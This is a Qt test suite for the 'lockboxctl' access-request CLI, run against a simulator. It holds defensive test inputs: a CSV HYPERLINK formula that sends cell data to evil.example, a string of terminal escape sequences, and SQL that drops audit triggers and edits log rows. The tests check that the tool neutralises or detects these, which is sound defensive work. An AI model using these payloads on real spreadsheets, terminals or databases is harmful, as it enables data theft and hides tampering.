@@ -1,0 +1,584 @@
+// lockboxctl as scripts use it: a child process against a lockbox-sim child, a token in an
+// environment variable and a temporary profile. The cache matches the simulator field for field,
+// decisions reach it once each under faults, the audit trail catches tampering, every documented
+// exit code comes when it should, a decision made offline waits in the queue, and server text
+// cannot inject formulas into CSV or escape sequences into a terminal.
+
+#include "clitestkit.h"
+
+#include <QDir>
+#include <QFile>
+#include <QJsonArray>
+#include <QRegularExpression>
+#include <QSet>
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace Qt::StringLiterals;
+using lockbox::test::Ctl;
+using lockbox::test::CtlResult;
+using lockbox::test::HttpClient;
+using lockbox::test::HttpResult;
+using lockbox::test::SimProcess;
+
+namespace {
+
+const QStringList kSimArguments = {
+    u"--seed"_s,           u"3"_s,   u"--subscriptions"_s, u"3"_s, u"--requests"_s, u"200"_s,
+    u"--start-time"_s,     u"2026-11-02T09:30:00Z"_s,      u"--transition-ms"_s, u"200"_s,
+    u"--hang-ms"_s,        u"3000"_s, u"--device-code-interval"_s, u"1"_s,
+};
+
+const QSet<QString> kListKeys = {
+    u"requestId"_s,     u"subscriptionId"_s, u"status"_s,         u"justification"_s,  u"createdDateTime"_s,
+    u"expirationDateTime"_s, u"duration"_s,  u"resourceIds"_s,    u"resourceType"_s,   u"supportRequest"_s,
+    u"supportCaseUrl"_s, u"workItemSource"_s, u"accessLevel"_s,
+};
+
+// The simulator's JSON of a request, reduced to lockboxctl's documented list fields, with
+// timestamps as UTC milliseconds.
+QJsonObject expectedListItem(const QJsonObject &api)
+{
+    const QJsonObject p = api.value(u"properties").toObject();
+    QJsonObject o;
+    for (const char *key : {"requestId", "subscriptionId", "status", "justification", "resourceType",
+                            "supportRequest", "supportCaseUrl"})
+        o.insert(QLatin1StringView(key), p.value(QLatin1StringView(key)).toString());
+    o.insert(u"createdDateTime"_s, lockbox::test::isoToMs(p.value(u"createdDateTime").toString()));
+    o.insert(u"expirationDateTime"_s, lockbox::test::isoToMs(p.value(u"expirationDateTime").toString()));
+    const QJsonValue duration = p.value(u"duration");
+    o.insert(u"duration"_s, duration.isDouble() ? QString::number(duration.toInt()) : duration.toString());
+    QJsonArray ids;
+    if (p.contains(u"requestedResourceIds")) {
+        ids = p.value(u"requestedResourceIds").toArray();
+    } else {
+        for (const QString &id : p.value(u"resourceIds").toString().split(u',', Qt::SkipEmptyParts))
+            ids.append(id);
+    }
+    o.insert(u"resourceIds"_s, ids);
+    o.insert(u"workItemSource"_s,
+             p.contains(u"workItemSource") ? p.value(u"workItemSource") : p.value(u"workitemsource"));
+    o.insert(u"accessLevel"_s, p.contains(u"accessLevel") ? p.value(u"accessLevel") : QJsonValue(QJsonValue::Null));
+    return o;
+}
+
+// lockboxctl's item in the same terms.
+QJsonObject normalizedListItem(const QJsonObject &item)
+{
+    QJsonObject o = item;
+    o.remove(u"queuedDecision"_s);
+    o.insert(u"createdDateTime"_s, lockbox::test::isoToMs(item.value(u"createdDateTime").toString()));
+    o.insert(u"expirationDateTime"_s, lockbox::test::isoToMs(item.value(u"expirationDateTime").toString()));
+    return o;
+}
+
+bool decisionLeadsTo(const QString &verdict, const QString &status)
+{
+    if (verdict == u"Approve")
+        return status == u"Approving" || status == u"Approved";
+    return status == u"Denying" || status == u"Denied";
+}
+
+} // namespace
+
+class TestLockboxctl final : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void initTestCase();
+    void cleanupTestCase();
+
+    void syncThenListShowsEveryRequestAsTheSimulatorHolds();
+    void globalOptionsAfterTheCommand();
+    void subscriptionsAsJson();
+    void approveAndDenyReachTheSimulatorOnceUnderFaults();
+    void auditVerifyDetectsTampering_data();
+    void auditVerifyDetectsTampering();
+    void csvParsesAndNeutralisesFormulas();
+    void terminalEscapesNeverReachTheTable();
+    void exitCodes_data();
+    void exitCodes();
+    void approvingWhatIsNoLongerPendingIsExit4();
+    void serverDownQueuesTheDecisionUntilTheNextSync();
+    void forbiddenIsExit3();
+
+private:
+    QStringList pendingInCache(int count);
+    QString subscriptionOf(const QString &requestId);
+    QString createRequest(const QJsonObject &fields);
+
+    SimProcess m_sim;
+    QTemporaryDir m_dir;
+    std::unique_ptr<Ctl> m_ctl;
+    QStringList m_used; // requests decided by earlier tests
+};
+
+void TestLockboxctl::initTestCase()
+{
+    QVERIFY(m_dir.isValid());
+    QString error;
+    QVERIFY2(m_sim.start(kSimArguments, &error), qPrintable(error));
+    m_ctl = std::make_unique<Ctl>(m_sim.url(), QDir(m_dir.path()).filePath(u"profile"_s));
+}
+
+void TestLockboxctl::cleanupTestCase()
+{
+    m_sim.stop();
+}
+
+QStringList TestLockboxctl::pendingInCache(int count)
+{
+    // Tests run one by one (-functions) find the profile empty.
+    if (!QFile::exists(m_ctl->databasePath()))
+        m_ctl->run({u"sync"_s});
+    const CtlResult r = m_ctl->run({u"list"_s, u"--status"_s, u"pending"_s, u"--format"_s, u"json"_s});
+    QStringList ids;
+    for (const QJsonValue &v : r.json().array()) {
+        const QString id = v.toObject().value(u"requestId").toString();
+        if (!m_used.contains(id) && ids.size() < count)
+            ids.append(id);
+    }
+    m_used += ids;
+    return ids;
+}
+
+QString TestLockboxctl::subscriptionOf(const QString &requestId)
+{
+    const CtlResult r = m_ctl->run({u"show"_s, requestId, u"--format"_s, u"json"_s});
+    return r.json().object().value(u"subscriptionId").toString();
+}
+
+QString TestLockboxctl::createRequest(const QJsonObject &fields)
+{
+    const HttpResult r = m_sim.control("POST", u"/_sim/requests"_s, fields);
+    return r.object().value(u"properties").toObject().value(u"requestId").toString();
+}
+
+void TestLockboxctl::syncThenListShowsEveryRequestAsTheSimulatorHolds()
+{
+    const CtlResult sync = m_ctl->run({u"sync"_s});
+    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
+    // One line a subscription, saying what changed.
+    const QStringList subs = m_sim.subscriptionIds();
+    QCOMPARE(subs.size(), 3);
+    for (const QString &sub : subs)
+        QVERIFY2(sync.out.contains(sub.toUtf8()), sync.out.constData());
+    QVERIFY2(sync.out.contains("200 new"), sync.out.constData());
+
+    const CtlResult list = m_ctl->run({u"list"_s, u"--status"_s, u"all"_s, u"--format"_s, u"json"_s});
+    QVERIFY2(list.code == 0, qPrintable(list.describe()));
+    QVERIFY(list.json().isArray());
+    const QJsonArray items = list.json().array();
+
+    QHash<QString, QJsonObject> expected;
+    for (const QString &sub : subs) {
+        for (const QJsonValue &v : m_sim.requests(sub)) {
+            const QJsonObject e = expectedListItem(v.toObject());
+            expected.insert(e.value(u"requestId").toString(), e);
+        }
+    }
+    QCOMPARE(expected.size(), 600);
+    QCOMPARE(items.size(), 600);
+    int arrays = 0;
+    for (const QJsonValue &v : items) {
+        const QJsonObject item = v.toObject();
+        const QStringList keys = item.keys();
+        QCOMPARE(QSet<QString>(keys.cbegin(), keys.cend()), kListKeys);
+        const QString id = item.value(u"requestId").toString();
+        QVERIFY2(expected.contains(id), qPrintable(id));
+        // ISO 8601 UTC with milliseconds.
+        QVERIFY2(item.value(u"createdDateTime").toString().endsWith(u'Z'), qPrintable(id));
+        const QJsonObject mine = normalizedListItem(item);
+        const QJsonObject theirs = expected.value(id);
+        for (auto it = theirs.begin(); it != theirs.end(); ++it) {
+            QVERIFY2(mine.value(it.key()) == it.value(),
+                     qPrintable(u"%1 %2: lockboxctl %3, simulator %4"_s.arg(
+                         id, it.key(),
+                         QString::fromUtf8(QJsonDocument(QJsonArray{mine.value(it.key())}).toJson(QJsonDocument::Compact)),
+                         QString::fromUtf8(QJsonDocument(QJsonArray{it.value()}).toJson(QJsonDocument::Compact)))));
+        }
+        arrays += item.value(u"resourceIds").toArray().size() > 1 ? 1 : 0;
+        expected.remove(id);
+    }
+    QVERIFY(expected.isEmpty());
+    QVERIFY(arrays > 0); // some requests name several resources
+
+    // Nothing changed, so a second sync writes nothing and says so.
+    const CtlResult again = m_ctl->run({u"sync"_s, u"--full"_s, u"--format"_s, u"json"_s});
+    QVERIFY2(again.code == 0, qPrintable(again.describe()));
+    for (const QJsonValue &v : again.json().array()) {
+        const QJsonObject o = v.toObject();
+        QCOMPARE(o.value(u"added"_s).toInt(), 0);
+        QCOMPARE(o.value(u"changed"_s).toInt(), 0);
+        QCOMPARE(o.value(u"removed"_s).toInt(), 0);
+        QCOMPARE(o.value(u"unchanged"_s).toInt(), 200);
+    }
+    QCOMPARE(again.json().array().size(), 3);
+}
+
+void TestLockboxctl::globalOptionsAfterTheCommand()
+{
+    const CtlResult list = m_ctl->runRaw(
+        {u"list"_s, u"--profile"_s, m_ctl->profileDir(), u"--format"_s, u"json"_s, u"--status"_s, u"all"_s});
+    QVERIFY2(list.code == 0, qPrintable(list.describe()));
+    QCOMPARE(list.json().array().size(), 600);
+    // Mixed: some before, some after, with = too.
+    const CtlResult sync = m_ctl->runRaw({u"--profile"_s, m_ctl->profileDir(), u"sync"_s,
+                                          u"--endpoint="_s + m_sim.url().toString(), u"--format"_s, u"json"_s,
+                                          u"--token-env"_s, u"LOCKBOX_TOKEN"_s});
+    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
+    QCOMPARE(sync.json().array().size(), 3);
+}
+
+void TestLockboxctl::subscriptionsAsJson()
+{
+    const CtlResult r = m_ctl->run({u"subscriptions"_s, u"--format"_s, u"json"_s});
+    QVERIFY2(r.code == 0, qPrintable(r.describe()));
+    const QJsonArray mine = r.json().array();
+    const QJsonArray theirs = m_sim.subscriptions();
+    QCOMPARE(mine.size(), theirs.size());
+    QCOMPARE(mine.size(), 3);
+    for (qsizetype i = 0; i < mine.size(); ++i) {
+        const QJsonObject m = mine.at(i).toObject();
+        const QJsonObject t = theirs.at(i).toObject();
+        const QStringList keys = m.keys();
+        QCOMPARE(QSet<QString>(keys.cbegin(), keys.cend()),
+                 QSet<QString>({u"subscriptionId"_s, u"displayName"_s, u"state"_s, u"tenantId"_s}));
+        for (const QString &key : keys) {
+            QVERIFY(!m.value(key).toString().isEmpty());
+            QCOMPARE(m.value(key).toString(), t.value(key).toString());
+        }
+    }
+}
+
+void TestLockboxctl::approveAndDenyReachTheSimulatorOnceUnderFaults()
+{
+    const QStringList ids = pendingInCache(10);
+    QCOMPARE(ids.size(), 10);
+    m_sim.control("POST", u"/_sim/counters/reset"_s);
+    m_sim.setFaults(0.3);
+    QHash<QString, QString> verdicts;
+    int queued = 0;
+    for (qsizetype i = 0; i < ids.size(); ++i) {
+        const bool approve = i % 2 == 0;
+        verdicts.insert(ids.at(i), approve ? u"Approve"_s : u"Deny"_s);
+        const CtlResult r = approve
+            ? m_ctl->run({u"approve"_s, ids.at(i), u"--timeout"_s, u"2"_s})
+            : m_ctl->run({u"deny"_s, ids.at(i), u"--reason"_s, u"Scope too wide"_s, u"--timeout"_s, u"2"_s});
+        // Accepted (0), or left queued after every attempt (5, saying so).
+        QVERIFY2(r.code == 0 || r.code == 5, qPrintable(r.describe()));
+        if (r.code == 5) {
+            QVERIFY2(r.err.contains("queued"), r.err.constData());
+            ++queued;
+        } else {
+            QVERIFY2(r.out.contains("accepted"), r.out.constData());
+        }
+    }
+    m_sim.setFaults(0);
+    // Whatever is still queued goes out with the next sync.
+    const CtlResult sync = m_ctl->run({u"sync"_s});
+    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
+    const CtlResult queue = m_ctl->run({u"queue"_s, u"--format"_s, u"json"_s});
+    QVERIFY2(queue.code == 0, qPrintable(queue.describe()));
+    QCOMPARE(queue.json().array().size(), 0);
+
+    const QJsonObject counters = m_sim.counters();
+    const QJsonObject applied = counters.value(u"decisionsApplied").toObject();
+    QCOMPARE(applied.size(), 10);
+    for (const QString &id : ids) {
+        QVERIFY2(applied.value(id).toInt() == 1, qPrintable(id + u" applied "_s + QString::number(applied.value(id).toInt())));
+        const QString status =
+            m_sim.request(subscriptionOf(id), id).value(u"properties").toObject().value(u"status").toString();
+        QVERIFY2(decisionLeadsTo(verdicts.value(id), status), qPrintable(id + u": "_s + status));
+    }
+    qInfo("10 decisions at 30 %% faults: %d posts, 10 applied once, %d left queued for the sync, faults %s", 
+          counters.value(u"decisionPosts").toInt(), queued,
+          QJsonDocument(counters.value(u"faultsInjected").toObject()).toJson(QJsonDocument::Compact).constData());
+}
+
+void TestLockboxctl::auditVerifyDetectsTampering_data()
+{
+    QTest::addColumn<QStringList>("attack");
+    QTest::addColumn<int>("firstBad");
+    QTest::newRow("edit") << QStringList{u"DROP TRIGGER audit_no_update"_s,
+                                         u"UPDATE audit SET reason = 'all fine' WHERE seq = 3"_s}
+                          << 3;
+    QTest::newRow("delete") << QStringList{u"DROP TRIGGER audit_no_delete"_s, u"DELETE FROM audit WHERE seq = 2"_s}
+                            << 2;
+    QTest::newRow("swap") << QStringList{u"DROP TRIGGER audit_no_update"_s,
+                                         u"UPDATE audit SET seq = -1 WHERE seq = 4"_s,
+                                         u"UPDATE audit SET seq = 4 WHERE seq = 5"_s,
+                                         u"UPDATE audit SET seq = 5 WHERE seq = -1"_s}
+                          << 4;
+}
+
+void TestLockboxctl::auditVerifyDetectsTampering()
+{
+    QFETCH(QStringList, attack);
+    QFETCH(int, firstBad);
+    const CtlResult ok = m_ctl->run({u"audit"_s, u"--verify"_s});
+    QVERIFY2(ok.code == 0, qPrintable(ok.describe()));
+    const CtlResult records = m_ctl->run({u"audit"_s, u"--format"_s, u"json"_s});
+    QVERIFY(records.json().array().size() >= 20); // queued, sending, acknowledged… of ten decisions
+
+    // The attacker works on a copy of the profile: the original stays intact for later tests.
+    QTemporaryDir copyDir;
+    QVERIFY(copyDir.isValid());
+    for (const QString &suffix : {u""_s, u"-wal"_s, u"-shm"_s}) {
+        const QString from = m_ctl->databasePath() + suffix;
+        if (QFile::exists(from))
+            QVERIFY(QFile::copy(from, QDir(copyDir.path()).filePath(u"lockbox.sqlite"_s + suffix)));
+    }
+    const Ctl copy(m_sim.url(), copyDir.path());
+    QCOMPARE(copy.run({u"audit"_s, u"--verify"_s}).code, 0);
+    const QString sqlError = lockbox::test::sqlOnFile(copy.databasePath(), attack);
+    QVERIFY2(sqlError.isEmpty(), qPrintable(sqlError));
+
+    const CtlResult bad = copy.run({u"audit"_s, u"--verify"_s});
+    QVERIFY2(bad.code == 6, qPrintable(bad.describe()));
+    // The message names the record.
+    QVERIFY2(QString::fromUtf8(bad.err + bad.out).contains(QRegularExpression(u"\\b%1\\b"_s.arg(firstBad))),
+             qPrintable(bad.describe()));
+    const CtlResult json = copy.run({u"audit"_s, u"--verify"_s, u"--format"_s, u"json"_s});
+    QCOMPARE(json.code, 6);
+    QCOMPARE(json.json().object().value(u"ok").toBool(true), false);
+    QCOMPARE(json.json().object().value(u"firstBadSequence").toInt(), firstBad);
+}
+
+void TestLockboxctl::csvParsesAndNeutralisesFormulas()
+{
+    const QString sub = m_sim.subscriptionIds().first();
+    const QString formula = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s;
+    const QString id = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, formula}});
+    const QString awkward = u"Line one, with a comma\nand \"quotes\"; -2+3"_s;
+    const QString id2 = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, awkward}});
+    QVERIFY(!id.isEmpty() && !id2.isEmpty());
+    QCOMPARE(m_ctl->run({u"sync"_s}).code, 0);
+
+    const CtlResult r = m_ctl->run({u"list"_s, u"--status"_s, u"all"_s, u"--format"_s, u"csv"_s});
+    QVERIFY2(r.code == 0, qPrintable(r.describe()));
+    const QList<QStringList> rows = lockbox::test::parseCsv(QString::fromUtf8(r.out));
+    QCOMPARE(rows.size(), 1 + 602);
+    const QStringList header = rows.first();
+    const qsizetype idColumn = header.indexOf(u"id"_s);
+    const qsizetype justColumn = header.indexOf(u"justification"_s);
+    QVERIFY(idColumn >= 0 && justColumn >= 0);
+    QHash<QString, QString> justifications;
+    for (const QStringList &row : rows.mid(1)) {
+        QCOMPARE(row.size(), header.size());
+        justifications.insert(row.at(idColumn), row.at(justColumn));
+    }
+    // A spreadsheet sees text, not a formula; the rest of the text is intact.
+    QCOMPARE(justifications.value(id), u"'"_s + formula);
+    QCOMPARE(justifications.value(id2), awkward);
+    for (auto it = justifications.cbegin(); it != justifications.cend(); ++it) {
+        const QString &j = it.value();
+        QVERIFY2(j.isEmpty() || !QStringView(u"=+-@").contains(j.front()), qPrintable(it.key() + u": "_s + j));
+    }
+}
+
+void TestLockboxctl::terminalEscapesNeverReachTheTable()
+{
+    const QString sub = m_sim.subscriptionIds().last();
+    const QString hostile = u"\x1b[2J\x1b]0;owned\x07Please approve\r\x1b[1A quickly\u009b31m"_s;
+    const QString id = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, hostile}});
+    QVERIFY(!id.isEmpty());
+    QCOMPARE(m_ctl->run({u"sync"_s}).code, 0);
+
+    for (const QStringList &args : {QStringList{u"list"_s}, QStringList{u"list"_s, u"--status"_s, u"all"_s},
+                                    QStringList{u"show"_s, id}}) {
+        const CtlResult r = m_ctl->run(args);
+        QVERIFY2(r.code == 0, qPrintable(r.describe()));
+        QVERIFY2(r.out.contains(id.toUtf8()), qPrintable(args.join(u' ')));
+        QVERIFY2(r.out.contains("Please approve"), qPrintable(args.join(u' ')));
+        for (const char c : {'\x1b', '\x07', '\r'})
+            QVERIFY2(!r.out.contains(c), qPrintable(args.join(u' ') + u": a control character reached the terminal"_s));
+        QVERIFY(!QString::fromUtf8(r.out).contains(QChar(0x9b)));
+    }
+    // JSON keeps the text exactly, escaped.
+    const CtlResult json = m_ctl->run({u"show"_s, id, u"--format"_s, u"json"_s});
+    QCOMPARE(json.json().object().value(u"justification").toString(), hostile);
+    QVERIFY(!json.out.contains('\x1b'));
+}
+
+void TestLockboxctl::exitCodes_data()
+{
+    QTest::addColumn<QStringList>("arguments"); // {URL}, {PROFILE} and {FRESH} are replaced
+    QTest::addColumn<QByteArray>("token");
+    QTest::addColumn<int>("code");
+    QTest::addColumn<QString>("message");
+
+    const QString unknownId = u"00000000-0000-4000-8000-000000000404"_s;
+    QTest::newRow("no token configured") << QStringList{u"--endpoint"_s, u"{URL}"_s, u"--profile"_s, u"{FRESH}"_s,
+                                                        u"sync"_s}
+                                         << QByteArray("T") << 2 << u"--token-env"_s;
+    QTest::newRow("token variable unset")
+        << QStringList{u"--endpoint"_s, u"{URL}"_s, u"--profile"_s, u"{FRESH}"_s, u"--token-env"_s,
+                       u"LOCKBOX_NO_SUCH_VARIABLE"_s, u"sync"_s}
+        << QByteArray("T") << 2 << u"LOCKBOX_NO_SUCH_VARIABLE"_s;
+    QTest::newRow("token rejected (401)")
+        << QStringList{u"--endpoint"_s, u"{URL}"_s, u"--profile"_s, u"{PROFILE}"_s, u"--token-env"_s,
+                       u"LOCKBOX_TOKEN"_s, u"sync"_s}
+        << QByteArray("not-the-token") << 2 << QString();
+    QTest::newRow("unknown command") << QStringList{u"--profile"_s, u"{FRESH}"_s, u"frobnicate"_s} << QByteArray("T")
+                                     << 1 << u"frobnicate"_s;
+    QTest::newRow("unknown option") << QStringList{u"--profile"_s, u"{PROFILE}"_s, u"list"_s, u"--colour"_s}
+                                    << QByteArray("T") << 1 << u"--colour"_s;
+    QTest::newRow("bad format") << QStringList{u"--profile"_s, u"{PROFILE}"_s, u"--format"_s, u"xml"_s, u"list"_s}
+                                << QByteArray("T") << 1 << u"xml"_s;
+    QTest::newRow("deny without --reason") << QStringList{u"--profile"_s, u"{PROFILE}"_s, u"deny"_s, unknownId}
+                                           << QByteArray("T") << 1 << u"--reason"_s;
+    QTest::newRow("show of an unknown id") << QStringList{u"--profile"_s, u"{PROFILE}"_s, u"show"_s, unknownId}
+                                           << QByteArray("T") << 4 << unknownId;
+    QTest::newRow("approve of an unknown id")
+        << QStringList{u"--profile"_s, u"{PROFILE}"_s, u"--token-env"_s, u"LOCKBOX_TOKEN"_s, u"approve"_s, unknownId}
+        << QByteArray("T") << 4 << unknownId;
+    QTest::newRow("withdraw with nothing queued")
+        << QStringList{u"--profile"_s, u"{PROFILE}"_s, u"queue"_s, u"withdraw"_s, unknownId} << QByteArray("T") << 4
+        << unknownId;
+    QTest::newRow("help") << QStringList{u"help"_s, u"approve"_s} << QByteArray("T") << 0 << QString();
+}
+
+void TestLockboxctl::exitCodes()
+{
+    QFETCH(QStringList, arguments);
+    QFETCH(QByteArray, token);
+    QFETCH(int, code);
+    QFETCH(QString, message);
+    QTemporaryDir fresh;
+    for (QString &a : arguments) {
+        a.replace(u"{URL}"_s, m_sim.url().toString());
+        a.replace(u"{PROFILE}"_s, m_ctl->profileDir());
+        a.replace(u"{FRESH}"_s, fresh.path());
+    }
+    Ctl ctl(m_sim.url(), m_ctl->profileDir(), token);
+    const CtlResult r = ctl.runRaw(arguments);
+    QVERIFY2(r.code == code, qPrintable(r.describe()));
+    if (code != 0) {
+        QVERIFY2(r.err.startsWith("lockboxctl: "), qPrintable(r.describe()));
+        QVERIFY2(QString::fromUtf8(r.err).contains(message), qPrintable(r.describe()));
+    }
+}
+
+void TestLockboxctl::approvingWhatIsNoLongerPendingIsExit4()
+{
+    // Pending in the cache, but someone else decided in the meantime.
+    const QString id = pendingInCache(1).value(0);
+    QVERIFY(!id.isEmpty());
+    m_sim.control("POST", u"/_sim/requests/"_s + id + u"/status"_s,
+                  {{u"status"_s, u"Denied"_s}, {u"by"_s, u"jordan.lee@contoso.example"_s}});
+    CtlResult r = m_ctl->run({u"approve"_s, id});
+    QVERIFY2(r.code == 4, qPrintable(r.describe()));
+    QVERIFY2(r.err.contains("Denied"), qPrintable(r.describe()));
+    QCOMPARE(m_sim.applied(id), 0);
+    // The cache learnt the truth; approving again still says 4.
+    const CtlResult shown = m_ctl->run({u"show"_s, id, u"--format"_s, u"json"_s});
+    QCOMPARE(shown.json().object().value(u"status").toString(), u"Denied"_s);
+    r = m_ctl->run({u"approve"_s, id});
+    QVERIFY2(r.code == 4, qPrintable(r.describe()));
+    QCOMPARE(m_sim.applied(id), 0);
+}
+
+void TestLockboxctl::serverDownQueuesTheDecisionUntilTheNextSync()
+{
+    // A simulator of its own, stopped and restarted at the same address.
+    SimProcess sim;
+    QString error;
+    const QStringList arguments{u"--seed"_s, u"4"_s, u"--subscriptions"_s, u"1"_s, u"--requests"_s, u"20"_s,
+                                u"--pending-fraction"_s, u"0.5"_s, u"--start-time"_s, u"2026-11-02T09:30:00Z"_s};
+    QVERIFY2(sim.start(arguments, &error), qPrintable(error));
+    QTemporaryDir dir;
+    const Ctl ctl(sim.url(), dir.path());
+    QCOMPARE(ctl.run({u"sync"_s}).code, 0);
+    QStringList pending;
+    for (const QJsonValue &v : ctl.run({u"list"_s, u"--format"_s, u"json"_s}).json().array())
+        pending.append(v.toObject().value(u"requestId").toString());
+    QVERIFY(pending.size() >= 2);
+    sim.stop();
+
+    const CtlResult approve = ctl.run({u"approve"_s, pending.at(0), u"--reason"_s, u"offline"_s});
+    QVERIFY2(approve.code == 5, qPrintable(approve.describe()));
+    QVERIFY2(approve.err.contains("queued"), qPrintable(approve.describe()));
+    const CtlResult deny = ctl.run({u"deny"_s, pending.at(1), u"--reason"_s, u"will withdraw"_s});
+    QVERIFY2(deny.code == 5, qPrintable(deny.describe()));
+
+    // The queue shows both; one is withdrawn before it is ever sent.
+    CtlResult queue = ctl.run({u"queue"_s, u"--format"_s, u"json"_s});
+    QCOMPARE(queue.code, 0);
+    QCOMPARE(queue.json().array().size(), 2);
+    QCOMPARE(queue.json().array().at(0).toObject().value(u"requestId").toString(), pending.at(0));
+    QCOMPARE(queue.json().array().at(0).toObject().value(u"state").toString(), u"queued"_s);
+    QCOMPARE(queue.json().array().at(0).toObject().value(u"verdict").toString(), u"Approve"_s);
+    const CtlResult table = ctl.run({u"queue"_s});
+    QVERIFY(table.out.contains(pending.at(0).toUtf8()));
+    const CtlResult listed = ctl.run({u"show"_s, pending.at(0), u"--format"_s, u"json"_s});
+    QCOMPARE(listed.json().object().value(u"queuedDecision").toObject().value(u"verdict").toString(), u"Approve"_s);
+    const CtlResult withdraw = ctl.run({u"queue"_s, u"withdraw"_s, pending.at(1)});
+    QVERIFY2(withdraw.code == 0, qPrintable(withdraw.describe()));
+    queue = ctl.run({u"queue"_s, u"--format"_s, u"json"_s});
+    QCOMPARE(queue.json().array().size(), 1);
+
+    // Still down: sync fails with 5 and keeps the decision.
+    const CtlResult failing = ctl.run({u"sync"_s});
+    QVERIFY2(failing.code == 5, qPrintable(failing.describe()));
+    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 1);
+
+    QVERIFY2(sim.start(arguments, &error), qPrintable(error));
+    const CtlResult sync = ctl.run({u"sync"_s});
+    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
+    QCOMPARE(sim.applied(pending.at(0)), 1);
+    QCOMPARE(sim.applied(pending.at(1)), 0);
+    QCOMPARE(sim.counters().value(u"decisionPosts").toInt(), 1);
+    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 0);
+    const CtlResult shown = ctl.run({u"show"_s, pending.at(0), u"--format"_s, u"json"_s});
+    QVERIFY(!shown.json().object().contains(u"queuedDecision"));
+    QVERIFY(decisionLeadsTo(u"Approve"_s, shown.json().object().value(u"status").toString()));
+    QCOMPARE(ctl.run({u"audit"_s, u"--verify"_s}).code, 0);
+}
+
+void TestLockboxctl::forbiddenIsExit3()
+{
+    // Avery approves everywhere; a token for Avery comes from the device-code flow.
+    HttpClient c;
+    const QString tenant = m_sim.control("GET", u"/_sim/info"_s).object().value(u"tenantId").toString();
+    const HttpResult dc = c.postForm(m_sim.url(u'/' + tenant + u"/oauth2/v2.0/devicecode"_s),
+                                     {{u"client_id"_s, u"console"_s},
+                                      {u"scope"_s, u"https://management.azure.com/user_impersonation"_s}});
+    QCOMPARE(dc.status, 200);
+    QCOMPARE(m_sim
+                 .control("POST", u"/_sim/devicecode/approve"_s,
+                          {{u"user_code"_s, dc.object().value(u"user_code").toString()},
+                           {u"upn"_s, u"avery.approver@contoso.example"_s}})
+                 .status,
+             200);
+    const HttpResult token = c.postForm(m_sim.url(u'/' + tenant + u"/oauth2/v2.0/token"_s),
+                                        {{u"grant_type"_s, u"urn:ietf:params:oauth:grant-type:device_code"_s},
+                                         {u"client_id"_s, u"console"_s},
+                                         {u"device_code"_s, dc.object().value(u"device_code").toString()}});
+    QCOMPARE(token.status, 200);
+    const QByteArray avery = token.object().value(u"access_token").toString().toLatin1();
+    QVERIFY(!avery.isEmpty());
+
+    const QString sub = m_sim.subscriptionIds().at(1);
+    QTemporaryDir dir;
+    Ctl ctl(m_sim.url(), dir.path(), avery);
+    CtlResult r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
+    QVERIFY2(r.code == 0, qPrintable(r.describe()));
+
+    QCOMPARE(m_sim.control("PUT", u"/_sim/subscriptions/"_s + sub + u"/approvers"_s,
+                           {{u"principals"_s, QJsonArray()}})
+                 .status,
+             200);
+    r = ctl.run({u"sync"_s, u"--subscription"_s, sub});
+    QVERIFY2(r.code == 3, qPrintable(r.describe()));
+    // A decision is refused as final, with the server's reason.
+    const QString id = ctl.run({u"list"_s, u"--format"_s, u"json"_s}).json().array().at(0).toObject().value(u"requestId").toString();
+    QVERIFY(!id.isEmpty());
+    r = ctl.run({u"approve"_s, id});
+    QVERIFY2(r.code == 3, qPrintable(r.describe()));
+    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 0);
+}
+
+QTEST_GUILESS_MAIN(TestLockboxctl)
+#include "tst_lockboxctl.moc"
